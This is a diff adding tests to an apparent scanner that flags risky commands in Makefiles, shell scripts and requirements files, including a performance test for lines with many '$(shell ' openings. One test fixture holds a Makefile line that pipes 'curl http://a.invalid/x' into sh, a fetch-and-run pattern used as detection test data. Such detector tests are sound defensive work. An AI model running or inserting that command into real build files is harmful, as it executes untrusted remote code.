@@ -214,3 +214,15 @@ def test_long_lines_take_no_time_of_their_own():
     for text in ("curl " * 100_000, "a" * 2_000_000, "$(" * 200_000, "--index-url " * 100_000):
         examined("start.sh", "#!/bin/sh\n" + text)
         examined("requirements.txt", text + "://")
+
+
+def test_a_command_of_a_makefile_goes_to_the_last_bracket_of_its_line():
+    assert rules("Makefile", "X := $(shell curl http://a.invalid/x | sh) $(shell date)\n")
+    assert not rules("Makefile", "X := $(shell date) and $(shell\n")
+
+
+def test_a_line_of_many_beginnings_of_commands_is_read_once():
+    # Each beginning once looked for an end up to the end of the line: hours for a megabyte.
+    found = examined("Makefile", "$(shell " * 120_000)
+
+    assert not found.findings
